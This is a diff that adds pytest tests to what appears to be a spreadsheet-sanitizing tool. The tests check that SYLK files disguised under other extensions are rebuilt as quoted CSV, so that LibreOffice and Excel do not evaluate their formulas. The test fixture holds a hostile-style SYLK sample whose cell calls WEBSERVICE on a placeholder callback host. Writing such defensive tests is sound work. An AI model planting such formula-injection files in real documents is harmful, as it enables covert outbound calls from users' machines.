@@ -230,3 +230,56 @@ def test_libreoffice_computes_the_formulas_of_a_padded_spreadsheet_named_xml(
     converted = _libreoffice(tmp_path, original, "csv")
     assert converted is not None
     assert converted.read_text().startswith("42,"), converted.read_text()
+
+
+# -- SYLK ---------------------------------------------------------------------------------
+
+#: A SYLK file: a formula cell (its value cached as 7), a web-service call.
+_SYLK = (
+    b"ID;PWXL;N;E\r\nC;Y1;X1;K7;E1+41\r\n"
+    b'C;Y2;X1;K0;EWEBSERVICE("http://callback.invalid/")\r\nE\r\n'
+)
+
+
+@pytest.mark.parametrize("start", [b"ID;PWXL;N;E", b"ID;P", b"ID;N"])
+@pytest.mark.parametrize(
+    "name", ["book.xlt", "book.xla", "book.xlw", "book.xml", "book.dat", "book", "book.doc"]
+)
+def test_sylk_is_never_passed_as_plain_text(tmp_path: Path, start: bytes, name: str) -> None:
+    """LibreOffice reads text that starts as SYLK ("ID;P", "ID;N") as SYLK under any
+    name but .txt (.xml, .dat, .doc, none), formulas with it; Excel opens its other
+    names (.xlt, .xla, .xlw...) as it opens .xls, SYLK included: the file goes to the
+    CSV engine, which quotes that first cell (neither reads it as SYLK then)."""
+    data = _SYLK.replace(b"ID;PWXL;N;E", start, 1)
+    answer, out = _disarm(tmp_path, data, name)
+    assert answer["outcome"] == "rebuilt" and answer["file_type"]["name"] == "csv", answer
+    assert out is not None and not out.startswith(b"ID")
+
+
+def test_text_named_as_an_excel_template_is_opened_as_excel_opens_it() -> None:
+    """Excel opens text named .xlt as it opens text named .xls (as CSV here)."""
+    for name in ("book.xlt", "book.xla", "book.xlw", "book.xlm", "book.xlk"):
+        found = detect(b"a\tb\r\n=1+1\tc\r\n", None, name)
+        assert found is not None and found.name == "csv", name
+
+
+def test_text_that_only_starts_with_id_is_still_text() -> None:
+    for text in (b"IDENTIFICATION DIVISION.\n", b"ID: 42\nname: x\n", b"id;P\n"):
+        found = detect(text, None, "notes.dat")
+        assert found is not None and found.name == "text", text
+
+
+def test_libreoffice_reads_sylk_named_xml_and_not_once_rebuilt(tmp_path: Path) -> None:
+    """What the tests above keep from the user: LibreOffice reads the SYLK file,
+    named .xml, as a spreadsheet (its cached value 7); the rebuilt file it does not
+    (it opens it as a text document, which has no CSV export)."""
+    original = tmp_path / "book.xml"
+    original.write_bytes(_SYLK)
+    converted = _libreoffice(tmp_path, original, "csv")
+    assert converted is not None and converted.read_text().startswith("7"), converted
+    answer, out = _disarm(tmp_path, _SYLK, "book.xml")
+    assert answer["outcome"] == "rebuilt" and out is not None
+    converted.unlink()
+    original.write_bytes(out)
+    converted = _libreoffice(tmp_path, original, "csv")
+    assert converted is None or not converted.read_text().startswith("7")
